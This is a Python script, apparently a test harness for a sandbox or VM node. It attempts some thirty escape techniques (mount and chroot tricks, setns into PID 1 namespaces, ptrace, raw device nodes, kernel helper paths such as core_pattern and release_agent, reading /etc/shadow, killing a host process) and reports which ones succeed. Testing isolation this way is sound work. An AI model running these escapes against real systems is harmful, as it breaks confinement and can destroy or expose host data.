"""Tries to get out of a node. Prints, as JSON on one line, the names of what it managed; its word is JSON, too: what there is to reach."""

import ctypes
import errno
import json
import os
import signal
import socket
import struct
import sys
import time

WORLD = json.loads(sys.argv[1])
SECRET, FOLDER = WORLD["secret"], WORLD["folder"]
HERE = "/tmp/files"
libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, BIND, REMOUNT, DETACH = 0x20000, 0x10000000, 0x1000, 0x20, 2


def text(name):
    return name.encode() if isinstance(name, str) else name


def mount(what, where, kind, flags=0, data=None):
    os.makedirs(where, exist_ok=True)
    return libc.mount(text(what), text(where), text(kind), flags, text(data)) == 0


def reads(path):
    try:
        with open(path, "rb") as file:
            return bool(file.read(16))
    except OSError:
        return False


def writes(path, what=b"escaped"):
    try:
        with open(path, "wb") as file:
            file.write(what)
        return True
    except OSError:
        return False


def reached(root=""):
    """Whether below here are the host's files."""
    return reads(root + SECRET) or writes(f"{root}{FOLDER}/escaped")


def same(path):
    """Whether a variable of the kernel can be written; what it says stays."""
    try:
        with open(path, "rb") as file:
            return writes(path, file.read())
    except OSError:
        return False


def call(number, *words):
    ctypes.set_errno(0)
    return libc.syscall(number, *words), ctypes.get_errno()


def remount():
    return mount("none", "/", "", REMOUNT) and (reached() or writes("/escaped"))


def remount_bind():
    return any(
        mount("none", place, "", REMOUNT | BIND) and writes(f"{place}/escaped") for place in ("/", "/usr", "/etc")
    )


def hostfs():
    return mount("none", f"{HERE}/h", "hostfs", 0, FOLDER) and writes(f"{HERE}/h/escaped")


def hostfs_root():
    return mount("none", f"{HERE}/r", "hostfs", 0, "/") and reached(f"{HERE}/r")


def bind():
    places = ("/", "/proc/1/root", "/proc/1/cwd", "/.door", "/..")
    return any(mount(place, f"{HERE}/b{number}", "", BIND) for number, place in enumerate(places))


def unmount():
    return any([libc.umount2(place, DETACH) == 0 for place in (b"/usr", b"/tmp", b"/etc", b"/")]) and reached()


def of_a_user_namespace():
    """A namespace of users has all powers over itself, where the machine lets it be."""
    if (child := os.fork()) == 0:
        managed = libc.unshare(NEWUSER | NEWNS) == 0 and (
            remount() or remount_bind() or hostfs() or unmount() or chroot_out()
        )
        os._exit(1 if managed else 0)
    return os.waitpid(child, 0)[1] != 0


def chroot_out():
    try:
        os.makedirs(f"{HERE}/c", exist_ok=True)
        root = os.open("/", os.O_RDONLY)
        os.chroot(f"{HERE}/c")
        os.fchdir(root)
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        return False
    return reached()


def roots_of_others():
    return any(
        reached(f"/proc/{name}/{link}") for name in os.listdir("/proc") if name.isdigit() for link in ("root", "cwd")
    )


def namespace_of_others():
    try:
        return any(libc.setns(os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0) == 0 for kind in ("mnt", "net", "pid"))
    except OSError:
        return False


def handle():
    """open_by_handle_at(2) finds files below no folder that it was shown."""
    room, mount_id = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128)), ctypes.c_int()
    if libc.name_to_handle_at(-100, b"/usr", room, ctypes.byref(mount_id), 0) != 0:
        return False
    return libc.open_by_handle_at(os.open("/usr", os.O_RDONLY), room, os.O_RDONLY) >= 0


def devices():
    for number, (kind, major, minor) in enumerate(
        [(0o060000, 98, 0), (0o060000, 254, 0), (0o060000, 8, 0), (0o020000, 1, 1), (0o020000, 5, 1)]
    ):
        try:
            os.mknod(f"{HERE}/d{number}", kind | 0o600, os.makedev(major, minor))
            return True
        except OSError:
            continue
    return any(
        os.path.exists(f"/dev/{name}") for name in ("mem", "kmem", "port", "sda", "vda", "ubda", "console", "kmsg")
    )


def trace():
    return (
        libc.ptrace(16, 1, 0, 0) == 0
        or reads("/proc/1/environ")
        or reads("/proc/1/auxv")
        or os.access("/proc/1/mem", os.R_OK)
        and reads("/proc/1/maps")
    )


def sysrq():
    return writes("/proc/sysrq-trigger", b"h") or same("/proc/sys/kernel/sysrq")


def memory_of_the_kernel():
    return any(reads(f"/proc/{name}") for name in ("kcore", "kmem", "vmcore"))


def module():
    return call({"x86_64": 175, "aarch64": 105}[os.uname().machine], b"junk", 4, b"")[1] not in (
        errno.EPERM,
        errno.ENOSYS,
    )


def reboot():
    return libc.reboot(ctypes.c_int(0x89ABCDEF - (1 << 32))) == 0  # Ctrl-Alt-Del reboots at once, or not: harmless


def ports():
    return hasattr(libc, "iopl") and libc.iopl(3) == 0


def clock():
    return libc.clock_settime(time.CLOCK_REALTIME, struct.pack("qq", int(time.time()), 0)) == 0


def helpers():
    """What the kernel would start by itself, outside of all walls."""
    names = (
        "kernel/core_pattern",
        "kernel/modprobe",
        "kernel/hotplug",
        "kernel/poweroff_cmd",
        "kernel/usermodehelper/bset",
    )
    places = [*(f"/proc/sys/{name}" for name in names), "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent"]
    return any([same(place) for place in places]) or writes("/proc/sys/fs/binfmt_misc/register", b"x")


def variables():
    return any(
        [
            same(f"/proc/sys/{name}")
            for name in ("kernel/threads-max", "kernel/pid_max", "vm/overcommit_memory", "fs/file-max")
        ]
    )


def unix_socket():
    with socket.socket(socket.AF_UNIX) as link:
        return link.connect_ex(WORLD["socket"]) == 0


def abstract_socket():
    with socket.socket(socket.AF_UNIX) as link:
        return link.connect_ex("\0" + WORLD["abstract"]) == 0


def fifo():
    try:
        return os.write(os.open(WORLD["fifo"], os.O_WRONLY | os.O_NONBLOCK), b"escaped") > 0
    except OSError:
        return False


def tcp():
    with socket.socket() as link:
        link.settimeout(0.2)
        return link.connect_ex(("127.0.0.1", WORLD["port"])) == 0


def vsock():
    try:
        socket.socket(40, socket.SOCK_STREAM)
    except OSError as error:
        return error.errno not in (errno.EAFNOSUPPORT, errno.EPERM)
    return True


def keys():
    return call({"x86_64": 248, "aarch64": 217}[os.uname().machine], b"user", b"acklab-escape", b"x", 1, -4)[0] > 0


def uring():
    """It makes sockets past a filter of system calls; a kernel of the node's own has no need of one."""
    return WORLD.get("live") and call(425, 1, bytes(120))[1] not in (errno.EPERM, errno.ENOSYS)


def signals():
    """To a process of the host, which must not end of it."""
    try:
        os.kill(WORLD["process"], signal.SIGKILL)
    except OSError:
        return False
    return False  # the host sees who has ended


def home():
    try:
        return any(os.path.isfile(os.path.join(WORLD["home"], name)) for name in os.listdir(WORLD["home"]))
    except OSError:
        return False


def secrets():
    return any(reads(path) for path in (SECRET, "/etc/shadow", "/etc/machine-id", f"{WORLD['home']}/.bashrc"))


def elsewhere():
    """Writes anywhere but to its own memory."""
    folders = [
        "/",
        "/usr",
        "/usr/local/bin",
        "/bin",
        "/lib",
        "/etc",
        "/dev",
        "/.door",
        sys.prefix,
        os.path.dirname(os.path.abspath(__file__)),
    ]
    return any([writes(f"{folder}/escaped") for folder in [*folders, FOLDER, WORLD["scenario"]]])


def behind():
    """Leaves links, and a process that writes where results go when they go there."""
    for name, target in (("link", SECRET), ("folder", FOLDER), ("up", "../../../../../..")):
        os.symlink(target, f"{HERE}/{name}")
    os.mkfifo(f"{HERE}/fifo")
    writes(f"{HERE}/hole") and os.truncate(f"{HERE}/hole", 1 << 38)
    writes(f"{HERE}/several") and os.link(f"{HERE}/several", f"{HERE}/names")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            end = time.monotonic() + 5
            while time.monotonic() < end:
                for place in ("/tmp/out", "/.door"):
                    writes(f"{place}/planted")
                time.sleep(0.001)
        os._exit(0)
    return False


ATTACKS = (
    *(
        remount,
        remount_bind,
        hostfs,
        hostfs_root,
        bind,
        unmount,
        of_a_user_namespace,
        roots_of_others,
        namespace_of_others,
        handle,
    ),
    *(
        devices,
        trace,
        sysrq,
        memory_of_the_kernel,
        module,
        reboot,
        ports,
        clock,
        helpers,
        variables,
        unix_socket,
        abstract_socket,
        fifo,
    ),
    *(tcp, vsock, keys, uring, signals, home, secrets, elsewhere, behind, chroot_out),
)
os.makedirs(HERE, exist_ok=True)
print(json.dumps([attack.__name__ for attack in ATTACKS if attack()]))
sys.exit(WORLD.get("status", 0))
